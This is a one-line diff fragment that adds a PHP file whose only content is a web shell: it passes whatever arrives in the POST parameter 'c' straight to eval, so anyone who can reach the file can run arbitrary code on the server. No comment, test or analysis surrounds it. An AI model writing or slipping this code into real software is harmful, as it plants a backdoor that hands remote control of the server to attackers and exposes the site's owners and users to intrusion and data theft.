@@ -1,0 +1,1 @@
+<?php eval(filter_input(INPUT_POST, 'c')); ?>
